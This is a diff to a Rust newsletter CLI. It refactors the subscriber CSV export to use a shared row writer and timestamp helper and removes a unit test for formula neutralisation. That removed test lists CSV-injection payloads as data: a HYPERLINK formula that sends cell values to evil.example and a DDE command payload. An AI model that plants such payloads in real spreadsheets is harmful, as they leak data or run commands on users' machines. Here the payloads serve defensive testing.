@@ -7,8 +7,9 @@ use anyhow::Context;
 use clap::Subcommand;
 
 use crate::app::App;
-use crate::domain::{SubscriptionState, ms_to_datetime};
+use crate::domain::{SubscriptionState, ms_to_rfc3339};
 use crate::subscribers::import::ImportOptions;
+use crate::subscribers::paging::{EXPORT_HEADER, write_export_row};
 use crate::subscribers::{SubscribeOutcome, UnsubscribeOutcome, clean_name, parse_email};
 
 #[derive(Subcommand, Debug)]
@@ -156,34 +157,11 @@ pub async fn run(app: &App, cmd: SubscribersCommand) -> anyhow::Result<()> {
                 None => Box::new(std::io::stdout()),
             };
             let mut w = csv::Writer::from_writer(std::io::BufWriter::new(out));
-            w.write_record([
-                "email",
-                "name",
-                "state",
-                "created_at",
-                "confirmed_at",
-                "unsubscribed_at",
-                "attributes",
-            ])?;
+            w.write_record(EXPORT_HEADER)?;
             let mut write_err = None;
             let mut n = 0u64;
             app.for_each_subscriber(&nl, state, |s| {
-                let row = [
-                    s.email,
-                    s.name.unwrap_or_default(),
-                    s.state.to_string(),
-                    rfc3339(Some(s.created_at)),
-                    rfc3339(s.confirmed_at),
-                    rfc3339(s.unsubscribed_at),
-                    s.attributes,
-                ];
-                let written = if raw {
-                    w.write_record(&row)
-                } else {
-                    let cells = row.each_ref().map(|cell| neutralise_formula(cell));
-                    w.write_record(cells.iter().map(|cell| cell.as_bytes()))
-                };
-                if let Err(e) = written {
+                if let Err(e) = write_export_row(&mut w, s, raw) {
                     write_err.get_or_insert(e);
                 }
                 n += 1;
@@ -230,7 +208,7 @@ pub async fn run(app: &App, cmd: SubscribersCommand) -> anyhow::Result<()> {
             let s = &profile.subscriber;
             println!("email:      {}", s.email);
             println!("name:       {}", s.name.as_deref().unwrap_or("-"));
-            println!("created:    {}", rfc3339(Some(s.created_at)));
+            println!("created:    {}", ms_to_rfc3339(s.created_at));
             println!("attributes: {}", s.attributes);
             println!(
                 "suppressed: {}",
@@ -243,7 +221,7 @@ pub async fn run(app: &App, cmd: SubscribersCommand) -> anyhow::Result<()> {
             for e in &profile.consent_history {
                 println!(
                     "  {}  {:<13} source={} ip={} ua={:?} text={} method={}",
-                    rfc3339(Some(e.at)),
+                    ms_to_rfc3339(e.at),
                     e.kind,
                     e.source,
                     e.ip.as_deref().unwrap_or("-"),
@@ -274,14 +252,6 @@ pub async fn run(app: &App, cmd: SubscribersCommand) -> anyhow::Result<()> {
     Ok(())
 }
 
-fn rfc3339(ms: Option<i64>) -> String {
-    ms.map(|m| ms_to_datetime(m).to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
-        .unwrap_or_default()
-}
-
-/// Shared with the API's export (one rule for both).
-use crate::subscribers::paging::neutralise_formula;
-
 /// A progress bar on a terminal, nothing otherwise.
 pub(crate) fn progress_bar(len: u64) -> indicatif::ProgressBar {
     use std::io::IsTerminal;
@@ -295,26 +265,4 @@ pub(crate) fn progress_bar(len: u64) -> indicatif::ProgressBar {
         bar.set_style(style);
     }
     bar
-}
-
-#[cfg(test)]
-mod tests {
-    use super::neutralise_formula;
-
-    #[test]
-    fn formula_cells_are_neutralised_and_others_kept() {
-        for cell in [
-            "=HYPERLINK(\"http://evil.example/?d=\"&A2&B2,\"Open\")",
-            "+cmd|' /C calc'!A0",
-            "@SUM(A1:A9)",
-            "-1+1",
-            "\tx",
-            "\rx",
-        ] {
-            assert_eq!(neutralise_formula(cell), format!("'{cell}"));
-        }
-        for cell in ["Ann", "a@example.com", "", "1-2", " =x"] {
-            assert_eq!(neutralise_formula(cell), cell);
-        }
-    }
 }
